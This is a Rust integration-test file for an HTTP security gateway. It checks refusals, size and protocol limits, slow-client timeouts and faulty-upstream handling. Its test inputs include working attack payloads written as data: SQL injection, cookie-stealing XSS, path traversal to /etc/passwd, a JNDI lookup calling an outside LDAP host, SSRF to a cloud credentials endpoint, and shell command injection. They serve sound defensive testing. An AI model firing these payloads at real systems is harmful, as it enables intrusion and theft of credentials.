//! What is refused, and how: what the client learns, what the record says, what is counted, and that nothing reaches
//! the origin that should not.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::harness::client::{PATIENCE, get};
use crate::harness::origin::ok;
use crate::harness::{Gateway, Origin, World};

const ATTACK: &str = "/api/users?id=1%27%20UNION%20SELECT%20password%20FROM%20users--";

fn plain() -> Origin {
    Origin::answering(|seen| ok(seen, "origin"))
}

/// The record of a request to this path, with its outcome and reason.
fn check_record(gateway: &Gateway, path: &str, outcome: &str, reason: &str) -> Value {
    let record = gateway.await_record(|record| record["path"] == path);
    let found = (
        record["outcome"].as_str(),
        record["reason"].as_str().unwrap_or_default(),
    );
    assert_eq!(found, (Some(outcome), reason), "{record}");
    record
}

#[test]
fn an_attack_gets_403_and_no_hint() {
    let origin = plain();
    let gateway = World::before(&origin).start();
    let mut client = gateway.client();
    client.send(format!("GET {ATTACK} HTTP/1.1\r\nHost: a.test\r\n\r\n").as_bytes());
    let answer = client.response(PATIENCE).expect("an answer");
    assert_eq!(answer.status, 403);
    assert_eq!(answer.header("content-type"), Some("application/json"));
    let body: Value = serde_json::from_slice(&answer.body).expect("JSON");
    let keys: Vec<&String> = body.as_object().expect("an object").keys().collect();
    assert_eq!(keys, ["error", "request_id"]);
    let record = gateway.await_record(|record| record["path"] == "/api/users");
    assert_eq!(record["id"], body["request_id"]);
    let all = format!("{:?} {}", answer.headers, answer.text()).to_ascii_lowercase();
    let rule = record["verdict"]["evidence"][0]["rule"]
        .as_str()
        .expect("evidence names its rule");
    for hint in [rule, "sqli", "sql", "union", "rule", "score"] {
        assert!(!all.contains(hint), "{hint} in {all}");
    }
    assert_eq!(
        (&record["action"], &record["status"]),
        (&"deny".into(), &403.into())
    );
    assert_eq!(record["verdict"]["category"], "sqli");
    assert_eq!(origin.count(), 0, "nothing reached the origin");
    for (series, expected) in [
        ("portcullis_requests_total{action=\"deny\"", 1.0),
        (
            "portcullis_verdicts_total{action=\"deny\",category=\"sqli\"",
            1.0,
        ),
        ("portcullis_responses_total{class=\"4xx\"", 1.0),
    ] {
        assert_eq!(gateway.metric(series), expected, "{series}");
    }

    // The connection lives on.
    client.send(b"GET /api/users HTTP/1.1\r\nHost: a.test\r\n\r\n");
    let answer = client.response(PATIENCE).expect("an answer");
    assert_eq!((answer.status, answer.text().as_str()), (200, "origin"));

    client.send(
        format!("GET {ATTACK} HTTP/1.1\r\nHost: a.test\r\nAccept: text/html,*/*;q=0.8\r\n\r\n")
            .as_bytes(),
    );
    let page = client.response(PATIENCE).expect("an answer");
    assert_eq!(
        page.header("content-type"),
        Some("text/html; charset=utf-8")
    );
    assert!(
        page.text()
            .contains(page.header("x-request-id").expect("an id"))
    );

    client.send(
        format!("HEAD {ATTACK} HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\n").as_bytes(),
    );
    assert_eq!(
        client
            .answer_to("HEAD", PATIENCE)
            .map(|answer| answer.status),
        Some(403)
    );
    assert!(
        client.closes_within(PATIENCE) && client.rest().is_empty(),
        "HEAD has no body"
    );
}

#[test]
fn attacks_are_found_wherever_they_stand() {
    let origin = plain();
    let gateway = World::before(&origin).start();
    let body = |kind: &str, body: &str| {
        format!(
            "POST /x HTTP/1.1\r\nHost: a.test\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let get =
        |target: &str, field: &str| format!("GET {target} HTTP/1.1\r\nHost: a.test\r\n{field}\r\n");
    let requests = [
        body(
            "application/json",
            r#"{"a":{"b":["<script>alert(document.cookie)</script>"]}}"#,
        ),
        body(
            "application/x-www-form-urlencoded",
            "a=1&b=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        ),
        body(
            "multipart/form-data; boundary=q",
            "--q\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1' UNION SELECT password FROM users--\r\n--q--\r\n",
        ),
        get("/a/..%2f..%2f..%2fetc%2fpasswd", ""),
        get("/?f=../../../../etc/passwd", ""),
        get("/", "User-Agent: ${jndi:ldap://198.51.100.1/a}\r\n"),
        get(
            "/",
            "Cookie: a=1%27%20UNION%20SELECT%20password%20FROM%20users--\r\n",
        ),
        get(
            "/?a=%253Cscript%253Ealert(document.cookie)%253C/script%253E",
            "",
        ),
        get(
            "/?u=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "",
        ),
        get("/?c=;cat%20/etc/passwd", ""),
    ];
    for request in &requests {
        let mut client = gateway.client();
        client.send(request.as_bytes());
        let answer = client.response(PATIENCE).expect("an answer");
        assert_eq!(answer.status, 403, "{request}");
    }
    assert_eq!(origin.count(), 0);
}

#[test]
fn what_is_too_large_malformed_or_nowhere_is_refused_with_its_reason() {
    let origin = plain();
    let gateway = World::before(&origin)
        .route("methods: [GET, POST]")
        .policy("limits: [], body: { inspect: 8KiB, max: 32KiB }")
        .with("caps: { head: 8KiB, headers: 20 }")
        .start();
    let filler = "x".repeat(40 * 1024);
    let fields: String = (0..30).map(|i| format!("X-F{i}: 1\r\n")).collect();
    let chunks: String = (0..40)
        .map(|_| format!("400\r\n{}\r\n", "x".repeat(1024)))
        .collect();
    // (path, what follows the target, status, outcome, reason)
    let cases = [
        (
            "/length",
            "Content-Length: 40960\r\n\r\n".to_owned() + &filler,
            413,
            "refused",
            "body-too-large",
        ),
        (
            "/chunks",
            format!("Transfer-Encoding: chunked\r\n\r\n{chunks}0\r\n\r\n"),
            413,
            "refused",
            "body-too-large",
        ),
        (
            "/head",
            format!("X-Long: {}\r\n\r\n", "y".repeat(9000)),
            431,
            "refused",
            "head-too-large",
        ),
        (
            "/fields",
            format!("{fields}\r\n"),
            431,
            "refused",
            "too-many-fields",
        ),
        (
            "/both",
            "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".into(),
            400,
            "refused",
            "coding-with-length",
        ),
        (
            "/chunk",
            "Transfer-Encoding: chunked\r\n\r\n5\r\nhelloXX0\r\n\r\n".into(),
            400,
            "refused",
            "chunk-end",
        ),
    ];
    for (path, rest, status, outcome, reason) in &cases {
        let mut client = gateway.client();
        client.send(format!("POST {path} HTTP/1.1\r\nHost: a.test\r\n{rest}").as_bytes());
        let answer = client
            .response(PATIENCE)
            .unwrap_or_else(|| panic!("{path}: no answer"));
        assert_eq!(answer.status, *status, "{path}");
        assert!(
            client.closes_within(PATIENCE),
            "{path}: the connection closes"
        );
        let record = check_record(&gateway, path, outcome, reason);
        assert_eq!(
            (&record["status"], &record["method"]),
            (&(*status).into(), &"POST".into()),
            "{path}"
        );
        if *reason != "body-too-large" {
            let series = format!("portcullis_protocol_errors_total{{reason=\"{reason}\"");
            assert_eq!(gateway.metric(&series), 1.0, "{series}");
        }
    }
    let mut client = gateway.client();
    client.send(b"DELETE /nowhere HTTP/1.1\r\nHost: a.test\r\n\r\n");
    assert_eq!(
        client.response(PATIENCE).map(|answer| answer.status),
        Some(404)
    );
    check_record(&gateway, "/nowhere", "complete", "no-route");
    assert_eq!(origin.requests(), [], "nothing whole reached the origin");
}

#[test]
fn nothing_streams_where_the_policy_says_deny_beyond() {
    let origin = plain();
    let gateway = World::before(&origin)
        .policy("limits: [], body: { inspect: 4KiB, beyond: deny }")
        .start();
    for (size, status) in [(4 * 1024 - 1, 200), (5 * 1024, 413), (200 * 1024, 413)] {
        let mut client = gateway.client();
        let head =
            format!("POST /{size} HTTP/1.1\r\nHost: a.test\r\nContent-Length: {size}\r\n\r\n");
        client.send(head.as_bytes());
        client.send(&vec![b'x'; size]);
        assert_eq!(
            client.response(PATIENCE).map(|answer| answer.status),
            Some(status),
            "{size}"
        );
    }
    assert_eq!(origin.count(), 1);
    check_record(&gateway, "/5120", "refused", "body-too-large");
}

#[test]
fn slow_heads_are_cut_even_before_their_first_byte() {
    let origin = plain();
    let gateway = World::before(&origin)
        .with("timeouts: { head: 1s }")
        .start();
    let begun = Instant::now();
    let mut silent = gateway.client();
    let mut half = gateway.client();
    half.send(b"GET / HTTP/1.1\r\nHost: a.te");
    let mut second = gateway.client();
    second.send(b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n");
    assert_eq!(
        second.response(PATIENCE).map(|answer| answer.status),
        Some(200)
    );
    second.send(b"GET /again HT");
    let mut preface = gateway.client();
    preface.send(b"PRI * HTTP/2.0\r\n\r\n");
    for (name, client) in [
        ("silent", &mut silent),
        ("half", &mut half),
        ("second", &mut second),
        ("preface", &mut preface),
    ] {
        assert!(client.closes_within(Duration::from_secs(5)), "{name}");
    }
    let took = begun.elapsed();
    assert!(
        (Duration::from_millis(700)..Duration::from_secs(4)).contains(&took),
        "{took:?}"
    );
    gateway.await_metric(
        "portcullis_connections_closed_total{reason=\"slow-head\"",
        4.0,
    );
    assert_eq!(origin.count(), 1);
}

#[test]
fn kept_alive_connections_do_not_rest_for_ever() {
    let origin = plain();
    let gateway = World::before(&origin)
        .with("timeouts: { idle: 1s }")
        .start();
    let mut client = gateway.client();
    client.send(b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n");
    assert_eq!(
        client.response(PATIENCE).map(|answer| answer.status),
        Some(200)
    );
    assert!(client.closes_within(Duration::from_secs(5)));
    gateway.await_metric("portcullis_connections_closed_total{reason=\"idle\"", 1.0);
}

#[test]
fn slow_bodies_and_slow_readers_are_cut() {
    let origin = Origin::start(|mut stream, _| {
        let mut buffer = [0; 4096];
        let _ = stream.read(&mut buffer);
        let _ = stream.write_all(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 1000000000\r\n\r\n",
        );
        let piece = vec![b'x'; 256 * 1024];
        while stream.write_all(&piece).is_ok() {}
    });
    let gateway = World::before(&origin)
        .with("timeouts: { min_rate: { bytes_per_second: 100000, grace: 1s } }")
        .start();
    let mut reader = gateway.client();
    reader.send(b"GET /reader HTTP/1.1\r\nHost: a.test\r\n\r\n");
    let mut sender = gateway.client();
    sender.send(b"POST /sender HTTP/1.1\r\nHost: a.test\r\nContent-Length: 100000\r\n\r\n");
    let begun = Instant::now();
    while begun.elapsed() < Duration::from_secs(4)
        && gateway.records().iter().all(|r| r["path"] != "/sender")
    {
        sender.send(b"x");
        thread::sleep(Duration::from_millis(50));
    }
    check_record(&gateway, "/sender", "timeout", "slow-body");
    check_record(&gateway, "/reader", "timeout", "slow-reader");
    assert!(
        begun.elapsed() < Duration::from_secs(6),
        "{:?}",
        begun.elapsed()
    );
    for reason in ["slow-body", "slow-reader"] {
        gateway.await_metric(
            &format!("portcullis_connections_closed_total{{reason=\"{reason}\""),
            1.0,
        );
    }
}

/// Misbehaves as the path says.
fn faulty(stream: &mut TcpStream, path: &str) {
    let silent = || thread::sleep(Duration::from_secs(2));
    let bytes: &[u8] = match path {
        "/silent" => {
            silent();
            return;
        }
        "/drip" => {
            for byte in b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nX-Slow: yes\r\n\r\n" {
                let _ = stream.write_all(&[*byte]);
                thread::sleep(Duration::from_millis(30));
            }
            return;
        }
        "/interim-flood" => {
            let begun = Instant::now();
            while begun.elapsed() < Duration::from_secs(2)
                && stream
                    .write_all(b"HTTP/1.1 103 Early Hints\r\n\r\n")
                    .is_ok()
            {
                thread::sleep(Duration::from_millis(1));
            }
            return;
        }
        "/reset" => return,
        "/nonsense" => b"SSH-2.0-OpenSSH_9.2\r\n\r\n",
        "/half-head" => b"HTTP/1.1 200 OK\r\nContent-Le",
        "/two-lengths" => b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nabc",
        "/bad-length" => b"HTTP/1.1 200 OK\r\nContent-Length: two\r\n\r\nab",
        "/nul" => b"HTTP/1.1 200 OK\r\nX-Nul: a\0b\r\nContent-Length: 0\r\n\r\n",
        "/unasked-101" => {
            b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
        }
        "/large-head" => {
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nX-Large: ");
            let _ = stream.write_all(&vec![b'x'; 2 * 1024 * 1024]);
            let _ = stream.write_all(b"\r\nContent-Length: 0\r\n\r\n");
            return;
        }
        "/short-length" => b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nshort",
        "/short-chunk" => b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\na\r\nshort",
        "/no-last-chunk" => b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nshort\r\n",
        "/bad-chunk" => {
            b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nshort\r\nzz\r\n\r\n"
        }
        _ => b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\ngood",
    };
    let _ = stream.write_all(bytes);
}

#[test]
fn whatever_an_upstream_does_the_client_gets_a_plain_answer_and_nothing_is_poisoned() {
    let origin = Origin::start(|mut stream, _| {
        loop {
            let mut head = Vec::new();
            let mut byte = [0];
            while !head.ends_with(b"\r\n\r\n") {
                if !stream.read(&mut byte).is_ok_and(|n| n == 1) {
                    return;
                }
                head.push(byte[0]);
            }
            let text = String::from_utf8_lossy(&head).into_owned();
            let path = text.split(' ').nth(1).unwrap_or_default().to_owned();
            faulty(&mut stream, &path);
            if path != "/good" {
                return;
            }
        }
    });
    let gateway = World::before(&origin)
        .upstream("timeouts: { first_byte: 300ms }")
        .start();
    // (path, status, reason); 0 stands for an answer that begins with 200 and visibly breaks off.
    let cases = [
        ("/silent", 504, "timeout"),
        ("/drip", 504, "timeout"),
        ("/interim-flood", 504, "timeout"),
        ("/reset", 502, "reset"),
        ("/half-head", 502, "reset"),
        ("/nonsense", 502, "malformed"),
        ("/two-lengths", 502, "malformed"),
        ("/bad-length", 502, "malformed"),
        ("/nul", 502, "malformed"),
        ("/large-head", 502, "malformed"),
        ("/unasked-101", 502, "unasked-upgrade"),
        ("/short-length", 0, "answer-broke-off"),
        ("/short-chunk", 0, "answer-broke-off"),
        ("/no-last-chunk", 0, "answer-broke-off"),
        ("/bad-chunk", 0, "answer-broke-off"),
    ];
    let mut expected = std::collections::BTreeMap::new();
    for (path, status, reason) in cases {
        let begun = Instant::now();
        let mut client = gateway.client();
        client.send(format!("GET {path} HTTP/1.1\r\nHost: a.test\r\n\r\n").as_bytes());
        let answer = client.response(PATIENCE);
        if status == 0 {
            assert!(
                answer.is_none(),
                "{path}: the client must see that it is not whole: {answer:?}"
            );
            assert!(client.closes_within(PATIENCE), "{path}");
            assert!(
                !client.rest().ends_with(b"0\r\n\r\n"),
                "{path}: no end where there was none"
            );
        } else {
            let answer = answer.unwrap_or_else(|| panic!("{path}: no answer"));
            assert_eq!(answer.status, status, "{path}: {}", answer.text());
            assert!(
                answer.text().contains("request_id"),
                "{path}: {}",
                answer.text()
            );
        }
        assert!(
            begun.elapsed() < Duration::from_secs(5),
            "{path}: {:?}",
            begun.elapsed()
        );
        let outcome = if status == 504 {
            "timeout"
        } else {
            "upstream-error"
        };
        check_record(&gateway, path, outcome, reason);
        *expected.entry(reason).or_insert(0.0) += 1.0;
        // And the next one is served as ever.
        let next = get(gateway.address(), "/good");
        assert_eq!(
            (next.status, next.text().as_str()),
            (200, "good"),
            "after {path}"
        );
    }
    for (reason, count) in expected {
        let series = format!("portcullis_upstream_errors_total{{reason=\"{reason}\"");
        assert_eq!(gateway.metric(&series), count, "{series}");
    }
}

#[test]
fn an_upstream_that_is_down_is_a_502_at_once_and_comes_back() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let address = listener.local_addr().expect("it is bound");
    drop(listener);
    let gateway = World::of(&[format!("http://{address}")]).start();
    let begun = Instant::now();
    assert_eq!(get(gateway.address(), "/down").status, 502);
    assert!(begun.elapsed() < Duration::from_secs(2));
    check_record(&gateway, "/down", "upstream-error", "connect");
    assert_eq!(
        gateway.metric("portcullis_upstream_errors_total{reason=\"connect\""),
        1.0
    );

    let listener = TcpListener::bind(address).expect("the port is still free");
    thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let mut buffer = [0; 4096];
            let _ = stream.read(&mut buffer);
            faulty(&mut stream, "/good");
        }
    });
    for _ in 0..10 {
        assert_eq!(get(gateway.address(), "/up").status, 200);
    }
}
